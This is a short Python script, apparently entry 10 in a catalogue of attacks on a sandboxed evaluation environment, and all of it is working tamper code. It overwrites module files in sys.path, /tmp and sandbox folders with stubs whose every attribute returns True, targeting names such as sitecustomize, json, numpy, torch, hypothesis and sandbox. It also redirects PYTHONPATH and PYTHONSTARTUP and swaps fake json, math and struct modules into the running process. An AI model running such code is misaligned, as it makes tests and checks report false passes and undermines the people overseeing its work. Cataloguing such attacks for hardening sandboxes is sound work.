"""Catalogue: 10. Replaces modules in the process and plants files that would be imported later."""
import os
import sys
import types

TEXT = "def __getattr__(name):\n    return lambda *a, **k: True\n"
NAMES = ("sitecustomize", "usercustomize", "numpy", "json", "torch", "hypothesis", "sandbox")
for folder in [*sys.path, ".", "/tmp", "/opt/guest", "/opt/guest/sandbox", "/opt/venv/lib"]:
    for name in NAMES:
        for ending in (".py", ".pth"):
            try:
                with open(os.path.join(folder or ".", name + ending), "w") as file:
                    file.write(TEXT)
                print("planted", folder, name)
            except OSError:
                pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = "/tmp"
for name in ("json", "math", "struct"):
    fake = types.ModuleType(name)
    fake.__getattr__ = lambda attribute: lambda *a, **k: True
    sys.modules[name] = fake
sys.path.insert(0, "/tmp")
sys.meta_path.insert(0, types.SimpleNamespace(find_spec=lambda *a: None))
